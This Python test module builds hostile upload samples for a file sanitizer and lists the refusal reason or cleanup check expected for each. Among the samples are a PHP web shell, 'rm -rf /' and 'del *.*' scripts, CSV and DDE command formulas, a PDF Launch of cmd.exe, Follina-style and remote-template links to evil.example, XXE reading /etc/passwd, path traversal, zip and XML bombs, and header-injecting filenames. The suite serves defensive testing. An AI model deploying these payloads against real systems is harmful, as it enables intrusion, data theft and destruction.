"""Files that mean harm, made here from nothing: what each one tries, and what must come of it.

Nothing is kept in the repository: a virus scanner on somebody's machine would be right to object.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

from tests.files.samples import (
    PDF,
    huge_picture,
    office,
    open_document,
    picture,
    types,
    word,
    zipped,
)

MIB = 1024 * 1024
SECRET = b"SecretPlace"


@dataclass(frozen=True)
class Hostile:
    """`reasons`: it must be refused for one of these. Else its cleaned picture must pass `check`,
    or its cleaned name must be `kept_name`.
    """

    name: str
    make: Callable[[], bytes]
    reasons: tuple[str, ...] = ()
    check: Callable[[bytes], None] | None = None
    kept_name: str | None = None


def _refused(name: str, make: Callable[[], bytes], *reasons: str) -> Hostile:
    return Hostile(name, make, reasons=reasons)


# Pictures ---------------------------------------------------------------------------------------


def no_secrets(cleaned: bytes) -> None:
    """Nothing that was written beside the dots is left, and it is still a picture."""
    for left in (SECRET, b"PK\x03\x04", b"<script", b"<?php", b"Exif", b"http://ns.adobe.com"):
        assert left not in cleaned, left
    with Image.open(io.BytesIO(cleaned)) as image:
        image.load()
        assert not image.getexif()
        assert not {"exif", "xmp", "comment"} & image.info.keys()
        assert not getattr(image, "text", {})


def upright(cleaned: bytes) -> None:
    no_secrets(cleaned)
    with Image.open(io.BytesIO(cleaned)) as image:
        assert image.height > image.width


def two_frames(cleaned: bytes) -> None:
    no_secrets(cleaned)
    with Image.open(io.BytesIO(cleaned)) as image:
        assert getattr(image, "n_frames", 1) == 2


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = SECRET.decode()
    exif[0x0112] = 6  # lying on its side
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 13.0, 48.0), 29: SECRET.decode()})
    return exif


def _png_with_text() -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", SECRET.decode() + "<script>alert(1)</script>")
    text.add_text("Author", SECRET.decode(), zip=True)
    text.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{SECRET.decode()}</x:xmpmeta>")
    return picture("PNG", pnginfo=text)


def _moving(kind: str, count: int = 2, size: tuple[int, int] = (20, 20), **more: object) -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", size, (255 * (n % 2), n, 255 - 255 * (n % 2))) for n in range(count)]
    frames[0].save(out, kind, save_all=True, append_images=frames[1:], duration=50, **more)
    return out.getvalue()


def _with_profile(profile: bytes) -> bytes:
    return picture("JPEG", icc_profile=profile)


def _zip() -> bytes:
    return zipped({"a.txt": SECRET})


def _cut(data: bytes, part: float = 0.5) -> bytes:
    return data[: int(len(data) * part)]


def _noise(kind: str) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((200, 150), 90).convert("RGB").save(out, kind)
    return out.getvalue()


def _gif_flood() -> bytes:
    return b"GIF89a" + struct.pack("<HHBBB", 60_000, 60_000, 0, 0, 0) + _GIF_FRAME + b";"


_GIF_FRAME = b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"


def _gif_grows() -> bytes:
    far = b"," + struct.pack("<HHHHB", 60_000, 60_000, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0, 0, 0) + _GIF_FRAME + far + b";"


def _gif_frames(count: int, side: int = 1) -> bytes:
    return b"GIF89a" + struct.pack("<HHBBB", side, side, 0, 0, 0) + _GIF_FRAME * count + b";"


def _webp_flood() -> bytes:
    size = (16_000 - 1).to_bytes(3, "little")
    canvas = b"VP8X" + struct.pack("<I", 10) + b"\x00" * 4 + size + size
    small = picture("WEBP")[12:]
    return b"RIFF" + struct.pack("<I", 4 + len(canvas + small)) + b"WEBP" + canvas + small


def _jpeg_flood() -> bytes:
    data = picture("JPEG")
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", 60_000, 60_000) + data[at + 4 :]


def _jpeg_scans() -> bytes:
    """A picture told in thousands of passes: small to send, endless to draw."""
    out = io.BytesIO()
    Image.new("RGB", (6000, 6000)).save(out, "JPEG", progressive=True, quality=10)
    data = out.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * 400 + b"\xff\xd9"


PICTURES = [
    Hostile("place.jpg", lambda: picture("JPEG", exif=_exif()), check=upright),
    Hostile("place.png", lambda: picture("PNG", exif=_exif()), check=upright),
    Hostile("place.webp", lambda: picture("WEBP", exif=_exif()), check=upright),
    Hostile("comment.jpg", lambda: picture("JPEG", comment=SECRET), check=no_secrets),
    Hostile("comment.gif", lambda: picture("GIF", comment=SECRET), check=no_secrets),
    Hostile("xmp.jpg", lambda: picture("JPEG", xmp=b"<x>" + SECRET + b"</x>"), check=no_secrets),
    Hostile("xmp.webp", lambda: picture("WEBP", xmp=b"<x>" + SECRET + b"</x>"), check=no_secrets),
    Hostile("text.png", _png_with_text, check=no_secrets),
    Hostile("profile.jpg", lambda: _with_profile(SECRET * 3000), check=no_secrets),
    Hostile("zip-behind.jpg", lambda: picture("JPEG") + _zip(), check=no_secrets),
    Hostile("zip-behind.png", lambda: picture("PNG") + _zip(), check=no_secrets),
    Hostile("zip-behind.webp", lambda: picture("WEBP") + _zip(), check=no_secrets),
    Hostile("script-behind.gif", lambda: picture("GIF") + b"<script>1</script>", check=no_secrets),
    Hostile(
        "php-inside.jpg", lambda: picture("JPEG", comment=b"<?php system(1);"), check=no_secrets
    ),
    Hostile("moving.gif", lambda: _moving("GIF", comment=SECRET), check=two_frames),
    Hostile("moving.webp", lambda: _moving("WEBP", exif=_exif(), xmp=SECRET), check=two_frames),
    _refused("flood.png", lambda: huge_picture(30_000, 30_000), "pixels"),
    _refused("flood.gif", _gif_flood, "pixels"),
    _refused("grows.gif", _gif_grows, "pixels"),
    _refused("flood.webp", _webp_flood, "pixels"),
    _refused("flood.jpg", _jpeg_flood, "pixels"),
    _refused("scans.jpg", _jpeg_scans, "pixels"),
    _refused("frames.gif", lambda: _gif_frames(100_000), "frames"),
    _refused("frames.webp", lambda: _moving("WEBP", 230, (8, 8)), "frames"),
    _refused("dots.gif", lambda: _gif_frames(5, 5_000), "frames"),
    _refused("cut.jpg", lambda: _cut(_noise("JPEG")), "damaged_picture"),
    _refused("cut.png", lambda: _cut(_noise("PNG")), "damaged_picture"),
    _refused("cut.gif", lambda: _cut(_noise("GIF")), "damaged_picture"),
    _refused("cut.webp", lambda: _cut(_noise("WEBP")), "damaged_picture"),
    _refused("few-dots.png", lambda: huge_picture(5_000, 5_000), "damaged_picture"),
    _refused("script.gif", lambda: b"GIF89a=1;<script>alert(1)</script>", "damaged_picture"),
    _refused("phone.heic", lambda: b"\x00\x00\x00\x18ftypheic" + b"\x00" * 40, "heic"),
    _refused("phone.jpg", lambda: b"\x00\x00\x00\x18ftypmif1" + b"\x00" * 40, "heic"),
    _refused("scan.tif", lambda: picture("TIFF"), "other_picture"),
    _refused("screen.png", lambda: picture("BMP"), "other_picture"),
]

# Archives posing as documents -------------------------------------------------------------------


def _spaces(mib: int) -> bytes:
    return b"<x>" + b" " * (mib * MIB) + b"</x>"


def _documents(**more: bytes) -> bytes:
    return office("word/document.xml", **more)


def _patched(data: bytes, name: bytes, change: Callable[[bytearray, int, int], None]) -> bytes:
    """The ZIP after `change(bytes, local header, directory entry)` of the member `name`."""
    changed = bytearray(data)
    entry = data.rindex(name) - 46
    change(changed, struct.unpack_from("<L", data, entry + 42)[0], entry)
    return bytes(changed)


def _lying_size() -> bytes:
    def lie(data: bytearray, local: int, entry: int) -> None:
        struct.pack_into("<L", data, local + 22, 100)
        struct.pack_into("<L", data, entry + 24, 100)

    return _patched(_documents(**{"word/big.xml": _spaces(30)}), b"word/big.xml", lie)


def _other_local_name() -> bytes:
    def rename(data: bytearray, local: int, _entry: int) -> None:
        data[local + 30 : local + 34] = b"evil"

    return _patched(word(), b"word/document.xml", rename)


def _other_local_size() -> bytes:
    def lie(data: bytearray, local: int, _entry: int) -> None:
        struct.pack_into("<L", data, local + 22, 7)

    return _patched(word(), b"word/document.xml", lie)


def _locked_member() -> bytes:
    def lock(data: bytearray, local: int, entry: int) -> None:
        data[local + 6] |= 1
        data[entry + 8] |= 1

    return _patched(word(), b"word/document.xml", lock)


def _overlapping() -> bytes:
    """Many entries that all unpack the same bytes."""
    data = _documents(**{"word/a.xml": _spaces(1), "word/b.xml": b"<x/>", "word/c.xml": b"<x/>"})
    shared = struct.unpack_from("<L", data, data.rindex(b"word/a.xml") - 46 + 42)[0]

    def overlap(changed: bytearray, _local: int, entry: int) -> None:
        a = data.rindex(b"word/a.xml") - 46
        changed[entry + 16 : entry + 28] = changed[a + 16 : a + 28]
        struct.pack_into("<L", changed, entry + 42, shared)
        changed[shared + 30 : shared + 40] = b"word/b.xml"
        changed[a + 46 : a + 56] = b"word/b.xml"

    return _patched(data, b"word/b.xml", overlap)


def _twice() -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("Word/Document.xml", "<other/>")
    return out.getvalue()


def _symlink() -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _many_entries() -> bytes:
    """A directory of a million entries: nothing is unpacked, the list alone fills the memory."""
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65_535, 65_535, 46 * 65_535, 40, 0)
    return b"PK\x03\x04" + b"\x00" * 36 + b"PK\x01\x02" * 100 + end


def _nested_bomb() -> bytes:
    inner = zipped({f"{n}.xml": _spaces(5) for n in range(4)})
    for _ in range(3):
        inner = zipped({f"{n}.zip": inner for n in range(4)})
    return _documents(**{"word/more.zip": inner})


def _doll(depth: int) -> bytes:
    data = office("xl/workbook.xml")
    for _ in range(depth):
        data = _documents(**{"word/embeddings/Sheet.xlsx": data})
    return data


def _laughs() -> bytes:
    entities = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
    )
    return f"<?xml version='1.0'?><!DOCTYPE x [{entities}]><x>&l9;</x>".encode()


def _rels(kind: str, target: str, *, mode: str = "External") -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        f'<Relationships><Relationship Id="r1" Type="{base}/{kind}" Target="{target}" '
        f'TargetMode="{mode}"/></Relationships>'
    ).encode()


def _linked(kind: str, target: str = "https://evil.example/x", *, mode: str = "External") -> bytes:
    return _documents(**{"word/_rels/document.xml.rels": _rels(kind, target, mode=mode)})


def _typed(content_type: str) -> bytes:
    part = "word/document.xml"
    return zipped({"[Content_Types].xml": types(part, content_type), part: "<x/>"})


def _odf(body: str) -> bytes:
    return _odf_parts(**{"content.xml": body.encode()})


def _odf_parts(**more: bytes) -> bytes:
    kind = "application/vnd.oasis.opendocument.text"
    parts: dict[str, bytes | str] = {"mimetype": kind, "content.xml": "<x/>", **more}
    return zipped(parts, stored_first=True)


def _gap() -> bytes:
    """A whole ZIP between the last member and the directory."""
    data = word()
    end = data.rindex(b"PK\x05\x06")
    directory = struct.unpack_from("<L", data, end + 16)[0]
    hidden = _zip()
    changed = bytearray(data[:directory] + hidden + data[directory:])
    struct.pack_into("<L", changed, end + len(hidden) + 16, directory + len(hidden))
    return bytes(changed)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
_MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"

ARCHIVES = [
    _refused("flat-bomb.docx", lambda: _documents(**{"word/big.xml": _spaces(60)}), "bomb"),
    _refused("huge-bomb.docx", lambda: _documents(**{"word/big.xml": _spaces(210)}), "bomb"),
    _refused("nested-bomb.docx", _nested_bomb, "archive", "bomb"),
    _refused("lying.docx", _lying_size, "damaged_document", "bomb"),
    _refused("overlapping.docx", _overlapping, "bomb", "trapped", "damaged_document"),
    _refused(
        "members.docx",
        lambda: _documents(**{f"word/p{n}.xml": b"" for n in range(1100)}),
        "bomb",
    ),
    _refused("directory.docx", _many_entries, "bomb"),
    _refused("local-name.docx", _other_local_name, "damaged_document"),
    _refused("local-size.docx", _other_local_size, "damaged_document"),
    _refused("gap.docx", _gap, "hidden"),
    _refused("behind.docx", lambda: word() + b"<script>1</script>" * 9, "hidden"),
    _refused("before.docx", lambda: b"PK\x03\x04" + b"\x00" * 90 + word(), "hidden", "damaged_document"),
    _refused("twice.docx", _twice, "trapped"),
    _refused("symlink.docx", _symlink, "trapped"),
    _refused("up.docx", lambda: _documents(**{"../../etc/passwd": b"x"}), "trapped"),
    _refused("up-back.docx", lambda: _documents(**{"..\\..\\boot.ini": b"x"}), "trapped"),
    _refused("root.docx", lambda: _documents(**{"/etc/passwd": b"x"}), "trapped"),
    _refused("drive.docx", lambda: _documents(**{"C:/Windows/x.xml": b"<x/>"}), "trapped"),
    _refused("locked-member.docx", _locked_member, "old_office"),
    _refused("locked.docx", lambda: OLE, "old_office"),
    _refused("old.doc", lambda: OLE, "old_office"),
    _refused("rich.txt", lambda: b"{\\rtf1\\ansi{\\object\\objdata 0105}}", "old_office"),
    _refused("macro.docm", lambda: word(word__vbaProject_bin=b"x"), "not_taken"),
    _refused("macro.docx", lambda: _documents(**{"word/vbaProject.bin": OLE}), "macro"),
    _refused("macro-type.docx", lambda: _typed(_MACRO_TYPE), "macro"),
    _refused("macro.xlsx", lambda: office("xl/workbook.xml", **{"xl/macrosheets/s.xml": b"<x/>"}), "macro"),
    _refused("macro.xlsm", lambda: office("xl/workbook.xml", **{"xl/vbaProject.bin": OLE}), "macro"),
    _refused("hidden-macro.docx", lambda: _documents(**{"word/media/i.png": OLE}), "embedded"),
    _refused("wrong-type.docx", lambda: _typed("text/plain"), "damaged_document"),
    _refused("links.xlsx", lambda: office("xl/workbook.xml", **{"xl/externalLinks/e1.xml": b"<x/>"}), "remote"),
    _refused("ole.docx", lambda: _documents(**{"word/embeddings/oleObject1.bin": OLE}), "embedded"),
    _refused("activex.docx", lambda: _documents(**{"word/activeX/activeX1.xml": b"<x/>"}), "embedded"),
    _refused("page-part.docx", lambda: _documents(**{"word/chunk.html": b"<p>"}), "embedded"),
    _refused("program-part.docx", lambda: _documents(**{"word/media/i.png": b"MZ\x90\x00"}), "program"),
    _refused("zip-part.docx", lambda: _documents(**{"word/media/i.png": _zip()}), "archive"),
    _refused("doll.docx", lambda: _doll(2), "archive"),
    _refused("laughs.docx", lambda: _documents(**{"word/laughs.xml": _laughs()}), "trapped"),
    _refused(
        "wide-laughs.docx",
        lambda: _documents(**{"word/laughs.xml": _laughs().decode().encode("utf-16")}),
        "trapped",
    ),
    _refused(
        "outside-entity.docx",
        lambda: _documents(**{"word/x.xml": b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'}),
        "trapped",
    ),
    _refused(
        "endless-tag.docx",
        lambda: _documents(**{"word/x.xml": b"<x a='" + bytes(range(97, 123)) * 700_000}),
        "bomb",
    ),
    _refused("template.docx", lambda: _linked("attachedTemplate"), "remote"),
    _refused("share-template.docx", lambda: _linked("attachedTemplate", r"\\evil\share\t.dotm"), "remote"),
    _refused("spelt-template.docx", lambda: _linked("attachedTemplate", mode="Extern&#97;l"), "remote"),
    _refused("beacon.docx", lambda: _linked("image"), "remote"),
    _refused("frame.docx", lambda: _linked("frame"), "remote"),
    _refused("follina.docx", lambda: _linked("oleObject", "mhtml:https://evil.example!x"), "embedded"),
    _refused(
        "dde.docx",
        lambda: _documents(
            **{"word/f.xml": b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}
        ),
        "macro",
    ),
    _refused("script.odt", lambda: _odf_parts(**{"Basic/Standard/M.xml": b"<x/>"}), "macro"),
    _refused("event.odt", lambda: _odf("<x><script:event-listener/></x>"), "macro"),
    _refused("beacon.odt", lambda: _odf('<x><draw:image xlink:href="https://evil.example/i"/></x>'), "remote"),
    _refused("locked.odt", lambda: _odf_parts(**{"META-INF/manifest.xml": b"<m><encryption-data/></m>"}), "old_office"),
    _refused("app.docx", lambda: zipped({"AndroidManifest.xml": b"x", "classes.dex": b"dex\n"}), "program"),
    _refused("jar.docx", lambda: zipped({"META-INF/MANIFEST.MF": b"x", "A.class": b"x"}), "program"),
    _refused("files.zip", _zip, "archive"),
    _refused("files.docx", _zip, "archive"),
    _refused("files.gz", lambda: b"\x1f\x8b\x08" + b"\x00" * 100, "archive"),
    _refused("files.txt", lambda: b"7z\xbc\xaf\x27\x1c" + b"\x00" * 100, "archive"),
    _refused("files.rar", lambda: b"Rar!\x1a\x07\x00" + b"\x00" * 100, "archive"),
    _refused("cut.docx", lambda: word()[:-30], "damaged_document"),
]  # fmt: skip

# PDF --------------------------------------------------------------------------------------------


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of one page with these objects added."""
    more = b"".join(
        b"%d 0 obj%s endobj\n" % (number, body) for number, body in enumerate(objects, start=4)
    )
    at = PDF.index(b"trailer")
    return PDF[:at] + more + PDF[at:].replace(b"<</Root 1 0 R", b"<</Root 1 0 R" + trailer)


def packed(data: bytes, head: bytes = b"/Type/ObjStm/N 1/First 4") -> bytes:
    body = zlib.compress(data)
    return b"<<%s/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (head, len(body), body)


_JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
_PADDING = b"%" + b"x" * (MIB - 20)

PDFS = [
    _refused("js.pdf", lambda: pdf(_JS), "active_pdf"),
    _refused("js-spelt.pdf", lambda: pdf(_JS.replace(b"JavaScript", b"J#61v#61Script")), "active_pdf"),
    _refused("js-packed.pdf", lambda: pdf(packed(b"9 0 " + _JS)), "active_pdf"),
    _refused("js-packed-spelt.pdf", lambda: pdf(packed(b"9 0 <</S/#4aavaScript/J#53(x)>>")), "active_pdf"),
    _refused("js-disguised.pdf", lambda: pdf(packed(b"9 0 " + _JS, b"/Type 7 0 R")), "active_pdf"),
    _refused(
        "js-twice-packed.pdf",
        lambda: pdf(
            b"<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]>>stream\n"
            + zlib.compress(b"9 0 " + _JS).hex().encode()
            + b">\nendstream"
        ),
        "active_pdf",
    ),
    _refused(
        "js-predicted.pdf",
        lambda: pdf(packed(b"9 0 x", b"/Type/ObjStm/DecodeParms<</Predictor 12>>")),
        "active_pdf",
    ),
    _refused("js-at-seam.pdf", lambda: pdf(_PADDING + b"\n" + _JS), "active_pdf"),
    _refused("js-locked.pdf", lambda: pdf(_JS, trailer=b"/Encrypt 9 0 R"), "active_pdf"),
    _refused("launch.pdf", lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"), "active_pdf"),
    _refused("attached.pdf", lambda: pdf(b"<</EF<</F 5 0 R>>>>", b"<</Type/EmbeddedFile>>"), "active_pdf"),
    _refused("portfolio.pdf", lambda: pdf(b"<</Names<</EmbeddedFiles 5 0 R>>>>"), "active_pdf"),
    _refused("film-inside.pdf", lambda: pdf(b"<</Subtype/RichMedia>>"), "active_pdf"),
    _refused("form.pdf", lambda: pdf(b"<</XFA[(a) 5 0 R]>>"), "active_pdf"),
    _refused("opens-page.pdf", lambda: pdf(b"<</OpenAction<</S/URI/URI(http://e)>>>>"), "active_pdf"),
    _refused("pdf-bomb.pdf", lambda: pdf(packed(b"9 0 " + b" " * (140 * MIB))), "bomb"),
    _refused("zip-behind.pdf", lambda: PDF + _zip(), "hidden"),
    _refused("page-before.pdf", lambda: b"%PDF-1.4\n%<html><script>1</script>\n" + PDF, "web_page"),
    _refused("page-behind.pdf", lambda: PDF + b"<script>alert(1)</script>", "web_page"),
    _refused("late.pdf", lambda: b"junk\x00\x01" * 80 + PDF, "unknown"),
    _refused("cut.pdf", lambda: PDF[:60], "damaged_pdf"),
]  # fmt: skip

# Pages, programs, films in disguise -------------------------------------------------------------

_HTML = "<!DOCTYPE html><html><script>alert(1)</script></html>"

DISGUISES = [
    _refused("page.html", lambda: _HTML.encode(), "web_page"),
    _refused("page.txt", lambda: _HTML.encode(), "web_page"),
    _refused("bom.txt", lambda: b"\xef\xbb\xbf" + _HTML.encode(), "web_page"),
    _refused("wide.txt", lambda: _HTML.encode("utf-16"), "web_page"),
    _refused("wide-bare.txt", lambda: _HTML.encode("utf-16-le"), "unknown"),
    _refused("case.txt", lambda: b"<ScRiPt>alert(1)</sCrIpT>", "web_page"),
    _refused("blanks.txt", lambda: b" \r\n\t" * 20_000 + b"<a href=javascript:1>", "web_page"),
    _refused("far.csv", lambda: b"a;b\n" * 50_000 + b"<script>alert(1)</script>", "web_page"),
    _refused("seam.txt", lambda: b"x" * (65_536 - 4) + b"<script>alert(1)", "web_page"),
    _refused("comment.txt", lambda: b"<!-- --><img src=x onerror=alert(1)>", "web_page"),
    _refused("utf7.txt", lambda: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "web_page"),
    _refused("drawing.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", "web_page"),
    _refused("drawing.png", lambda: b"<?xml version='1.0'?><svg onload='alert(1)'/>", "web_page"),
    _refused("page.php", lambda: b"<?php system($_GET['c']);", "web_page"),
    _refused("page.jpg", lambda: b"<?php system($_GET['c']);", "web_page"),
    _refused("app.hta", lambda: b"<HTA:APPLICATION><script>1</script>", "web_page"),
    _refused(
        "mail.txt",
        lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n--x\n",
        "web_page",
    ),
    _refused("script.js", lambda: b"alert(1)", "not_taken"),
    _refused("letter.txt.exe", lambda: b"harmless text", "not_taken"),
    _refused("shortcut.txt", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60, "program"),
    _refused("place.txt", lambda: b"[InternetShortcut]\r\nURL=file://evil/x", "program"),
    _refused("batch.txt", lambda: b"@ECHO OFF\r\ndel *.*", "program"),
    _refused("shell.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    _refused("formula.csv", lambda: b"a;b\n=cmd|'/C calc'!A0;1\n", "program"),
    _refused("windows.jpg", lambda: b"MZ\x90\x00" + b"\x00" * 200, "program"),
    _refused("linux.pdf", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "program"),
    _refused("mac.png", lambda: b"\xcf\xfa\xed\xfe" + b"\x00" * 100, "program"),
    _refused("java.docx", lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x34", "program"),
    _refused("web.txt", lambda: b"\x00asm\x01\x00\x00\x00", "program"),
    _refused("print.txt", lambda: b"%!PS-Adobe-3.0\n(%pipe%id) (r) file", "program"),
    _refused("nulls.csv", lambda: b"name;class\n\x00\x00Zofia;7B\n", "unknown"),
    _refused("late-nulls.txt", lambda: b"hello\n" * 3000 + b"\x00" * 900, "unknown"),
    _refused("noise.txt", lambda: bytes(n * 7 % 251 + 1 for n in range(4000)), "unknown"),
    _refused("song.txt", lambda: b"ID3\x03\x00" + b"\x00" * 200, "sound"),
    _refused("film.pdf", lambda: b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 200, "sound"),
    _refused("empty.pdf", lambda: b"", "empty"),
    _refused("one-byte.pdf", lambda: b"\x00", "unknown"),
    _refused("sheet.docx", lambda: office("xl/workbook.xml"), "misnamed"),
    _refused("report.jpg", lambda: PDF, "misnamed"),
    _refused("letter.docx", lambda: open_document("text"), "misnamed"),
]

# Names ------------------------------------------------------------------------------------------

NAMES = [
    Hostile(name, lambda: PDF, kept_name=kept)
    for name, kept in (
        ("CON.pdf", "_CON.pdf"),
        ("com¹.pdf", "_com¹.pdf"),
        ("NUL.tar.pdf", "_NUL.tar.pdf"),
        ("ＣＯＮ.pdf", "_ＣＯＮ.pdf"),
        ("photo\u202efdp.exe.pdf", "photofdp.exe.pdf"),
        ("re\u200bport\u2066.pdf", "report.pdf"),
        ("re\u3164port.pdf", "report.pdf"),
        ("report.pdf. . .", "report.pdf"),
        ("../../etc/cron.d/x.pdf", "x.pdf"),
        ("C:\\Windows\\x.pdf", "x.pdf"),
        ("a\x00b\r\nSet-Cookie: x.pdf", "abSet-Cookie: x.pdf"),
    )
]

CORPUS = [*PICTURES, *ARCHIVES, *PDFS, *DISGUISES, *NAMES]
